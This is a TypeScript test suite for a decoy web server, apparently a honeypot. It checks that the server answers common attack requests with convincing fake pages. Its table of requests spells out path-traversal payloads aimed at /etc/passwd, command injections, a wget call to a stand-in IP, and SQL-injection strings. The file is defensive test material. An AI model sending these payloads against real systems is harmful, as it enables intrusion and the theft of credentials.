import assert from 'node:assert/strict';
import { Buffer } from 'node:buffer';
import { test } from 'node:test';
import fc from 'fast-check';
import { answer } from './answer.ts';
import type { DecoyAnswer } from './page.ts';
import { ANSWER_BYTES_MAX } from './page.ts';
import type { DecoyRequest } from './request.ts';
import { makeSite } from './site.ts';
import { fuzzSeed } from '../../../test/support/random.ts';

const SITE = makeSite({ seed: 'a seed', serverHeader: 'nginx' });
const APACHE = makeSite({ seed: 'a seed', serverHeader: 'Apache/2.4.62 (Debian)' });

const FORM = 'application/x-www-form-urlencoded';

function get(target: string): DecoyAnswer {
  return answer({ method: 'GET', target, contentType: '', body: '' }, SITE);
}

function post(target: string, body: string): DecoyAnswer {
  return answer({ method: 'POST', target, contentType: FORM, body }, SITE);
}

function header(from: DecoyAnswer, name: string): string | undefined {
  return from.headers.find(([each]) => each.toLowerCase() === name.toLowerCase())?.[1];
}

/** What each answer must show, and what it is taken for. */
const SHOWN: readonly [string, DecoyAnswer, number, RegExp][] = [
  ['the home page', get('/'), 200, /Welcome to/],
  ['an absolute target', get('http://shop.example/'), 200, /Welcome to/],
  ['an empty target', get(''), 200, /Welcome to/],
  ['a product', get('/product.php?id=3'), 200, /EUR \d+\.\d\d/],
  ['a product that is not there', get('/product.php?id=9999'), 404, /not available/],
  ['a search', get('/search.php?q=zzz'), 200, /Nothing was found for <b>zzz<\/b>/],
  ['a page that is not there', get('/nothing/here'), 404, /<h1>404 Not Found<\/h1>/],
  ['robots.txt, with bait', get('/robots.txt'), 200, /Disallow: \/backup\//],
  ['the bait', get('/backup/'), 200, /shop\.sql/],
  ['what the bait leads to', get('/backup/shop.sql'), 200, /INSERT INTO `users` VALUES/],
  ['the administration', get('/admin'), 200, /Administration/],
  ['anything below the administration', get('/admin/config/users.php'), 200, /Administration/],
  [
    'a failed login of the administration',
    post('/admin/login.php', 'username=root&password=x'),
    200,
    /is not correct/,
  ],
  ['a WordPress login', get('/wp-login.php'), 200, /id="user_login"/],
  ['a failed WordPress login', post('/wp-login.php', 'log=admin&pwd=admin'), 200, /id="login_error"/],
  ['WordPress administration', get('/wp-admin/'), 302, /302 Found/],
  ['WordPress users', get('/wp-json/wp/v2/users'), 200, /"slug":"admin"/],
  ['XML-RPC with GET', get('/xmlrpc.php'), 405, /POST requests only/],
  ['XML-RPC with POST', post('/xmlrpc.php', '<methodCall/>'), 200, /faultCode/],
  ['phpMyAdmin', get('/phpmyadmin/'), 200, /pma_username/],
  ['phpMyAdmin in another spelling', get('/phpMyAdmin/index.php?lang=en'), 200, /pma_username/],
  [
    'a failed phpMyAdmin login',
    post('/pma/', 'pma_username=root&pma_password=x'),
    200,
    /Access denied for user 'root'/,
  ],
  ['.env', get('/.env'), 200, /^DB_PASSWORD=\w{18}$/m],
  ['.git/config', get('/.git/config'), 200, /\[remote "origin"\]/],
  ['the folder .git', get('/.git/'), 403, /403 Forbidden/],
  ['cloud credentials', get('/.aws/credentials'), 200, /aws_access_key_id = AKIA[A-Z2-7]{16}/],
  ['traversal in a parameter', get('/index.php?page=../../../../etc/passwd'), 200, /^root:x:0:0:/],
  ['traversal, encoded twice', get('/index.php?page=..%252f..%252fetc%252fpasswd'), 200, /^root:x:0:0:/],
  ['traversal with backslashes', get('/index.php?page=..%5c..%5cetc%5cpasswd'), 200, /^root:x:0:0:/],
  ['traversal with doubled dots', get('/index.php?page=....//....//etc/passwd'), 200, /^root:x:0:0:/],
  ['traversal with a NUL', get('/index.php?page=../../etc/passwd%00.php'), 200, /^root:x:0:0:/],
  ['traversal in the path', get('/cgi-bin/.%2e/.%2e/.%2e/etc/passwd'), 200, /^root:x:0:0:/],
  ['an absolute path in a parameter', get('/index.php?page=/etc/passwd'), 200, /^root:x:0:0:/],
  ['a file URL', get('/index.php?page=file:///etc/passwd'), 200, /^root:x:0:0:/],
  ['a filter of PHP', get('/?page=php://filter/convert.base64-encode/resource=config.php'), 200, /^PD9waHA/],
  ['a file that may not be read', get('/index.php?page=../../../etc/shadow'), 200, /Permission denied/],
  ['a file that is not there', get('/index.php?page=../../x.ini'), 200, /include\(x\.ini\): .*No such file/],
  ['a command', get('/ping.php?host=;id'), 200, /^uid=33\(www-data\)/],
  ['a command in a substitution', get('/ping.php?host=$(whoami)'), 200, /^www-data\n$/],
  ['a command that prints a file', get('/ping.php?host=1|cat%20/etc/passwd'), 200, /^root:x:0:0:/],
  ['a command that repeats a word', post('/ping.php', 'host=1%3Becho%20canary77'), 200, /^canary77\n$/],
  ['a command that reaches out', get('/ping.php?host=;wget%20http://192.0.2.1/x'), 200, /^$/],
  ['a broken query', get('/product.php?id=1%27'), 500, /You have an error in your SQL syntax.*near '1&#39;'/],
  ['a broken query elsewhere', get('/list?order=1%27--'), 500, /You have an error in your SQL syntax/],
  ['a query that sleeps', get('/product.php?id=1%20AND%20SLEEP(5)'), 500, /You have an error/],
  ['a query for everything', get("/product.php?id=1'+OR+'1'='1"), 200, /\$2y\$10\$/],
  ['a union', get('/product.php?id=-1+UNION/**/SELECT+1,2,3'), 200, /admin@/],
  ['an attack in a body that is no form', post('/api', '{"q":"1 union select 2"}'), 200, /admin@/],
];

for (const [name, given, status, pattern] of SHOWN) {
  test(`the decoy shows: ${name}`, () => {
    assert.equal(given.status, status);
    assert.match(given.body, pattern);
  });
}

/** Requests that look like attacks and are none, or are none that the decoy plays. */
const ORDINARY: readonly [string, string][] = [
  ['dots in a name', '/a..b/c'],
  ['the word union', '/nothing?q=european+union'],
  ['a parameter named id', '/nothing?a=1&id=2'],
  ['an apostrophe in a name', "/nothing?name=O'Neill"],
  ['an escape that is none', '/nothing?x=%zz%'],
  ['an unfinished filter', '/nothing?x=php://filter/'],
];
for (const [name, target] of ORDINARY) {
  test(`the decoy finds nothing in: ${name}`, () => assert.equal(get(target).status, 404));
}

for (const method of ['PUT', 'DELETE', 'PATCH', 'TRACE', 'PROPFIND', 'CONNECT', '', 'get']) {
  test(`the method "${method}" is not allowed`, () => {
    const given = answer({ method, target: '/', contentType: '', body: '' }, SITE);
    assert.equal(given.status, 405);
  });
}

test('OPTIONS names the methods', () => {
  const given = answer({ method: 'OPTIONS', target: '*', contentType: '', body: '' }, SITE);
  assert.equal(header(given, 'Allow'), 'GET, HEAD, POST, OPTIONS');
});

test('HEAD is decided as GET is', () => {
  for (const target of ['/', '/.env', '/nothing', '/?page=../../etc/passwd']) {
    assert.deepEqual(answer({ method: 'HEAD', target, contentType: '', body: '' }, SITE), get(target));
  }
});

test('error pages are those of the server that is named', () => {
  const apache = answer({ method: 'GET', target: '/nothing', contentType: '', body: '' }, APACHE);
  assert.equal(header(apache, 'Server'), 'Apache/2.4.62 (Debian)');
  assert.match(apache.body, /<address>Apache\/2\.4\.62 \(Debian\) Server<\/address>/);
  assert.match(get('/nothing').body, /<center>nginx<\/center>/);
});

test('the icon has the size that it says', () => {
  const { body } = get('/favicon.ico');
  assert.equal(body.slice(0, 6), '\0\0\x01\0\x01\0');
  const size = body.charCodeAt(14) + 256 * body.charCodeAt(15);
  assert.equal(body.length, 22 + size);
});

const bytes = fc
  .array(
    fc.oneof(fc.integer({ min: 0, max: 255 }), fc.constantFrom(...Buffer.from('<>"\'&/.;|`$()\r\n%=?'))),
    {
      maxLength: 60,
    },
  )
  .map((codes) => String.fromCharCode(...codes));
const seeds = [
  '/search.php?q=',
  '/product.php?id=',
  '/index.php?page=../../',
  '/x?a=;echo ',
  "/x?a=' or ",
  '/wp-login.php?log=',
  '/',
];
const request: fc.Arbitrary<DecoyRequest> = fc.record({
  method: fc.constantFrom('GET', 'POST', 'HEAD'),
  target: fc.tuple(fc.constantFrom(...seeds), bytes).map((parts) => parts.join('')),
  contentType: fc.constantFrom('', FORM, 'application/json'),
  body: fc
    .tuple(fc.constantFrom('', 'q=', 'log=', 'username=', 'pma_username=', 'email='), bytes)
    .map((parts) => parts.join('')),
});
const numRuns = Number(process.env['FUZZ_RUNS'] ?? 1000);

test('whatever is asked, the answer is harmless, bounded, and the same each time', () => {
  fc.assert(
    fc.property(request, (sample) => {
      const given = answer(sample, SITE);
      assert.deepEqual(answer(sample, SITE), given);
      assert.ok(given.body.length <= ANSWER_BYTES_MAX);
      assert.equal(header(given, 'Cache-Control'), 'no-store');
      assert.equal(header(given, 'X-Content-Type-Options'), 'nosniff');
      assert.match(header(given, 'Content-Security-Policy') ?? '', /^default-src 'none';(?!.*script-src)/);
      assert.equal(header(given, 'Set-Cookie'), undefined);
      assert.match(header(given, 'Location') ?? '/x', /^\/[^/]/);
      for (const [name, value] of given.headers) {
        assert.match(name, /^[A-Za-z-]+$/);
        assert.match(value, /^[ -~]+$/);
      }
      assert.doesNotMatch(`${JSON.stringify(given.headers)}${given.body}`, /sallyport|decoy|honey/i);
    }),
    { numRuns, seed: fuzzSeed },
  );
});

test('markup that is sent never comes back as markup', () => {
  const markup = `<zz a="b">'</zz>`;
  const encoded = encodeURIComponent(markup);
  const places = [
    `/search.php?q=${encoded}`,
    `/search.php?q=${encodeURIComponent(encoded)}`,
    `/?s=${encoded}`,
    `/${encoded}`,
    `/product.php?id=1'${encoded}`,
    `/x?a=1'--${encoded}`,
    `/index.php?page=../../${encoded}`,
    `/ping.php?host=;echo%20${encoded}`,
    `/wp-login.php?log=${encoded}`,
    `/admin?username=${encoded}`,
    `/phpmyadmin/?pma_username=${encoded}`,
    `/login?email=${encoded}`,
  ];
  for (const target of places) {
    const body = new URL(target, 'http://h').search.slice(1);
    for (const given of [get(target), post(target, body)]) {
      if (header(given, 'Content-Type')?.startsWith('text/html') === true)
        assert.doesNotMatch(given.body, /<zz/, target);
    }
  }
});
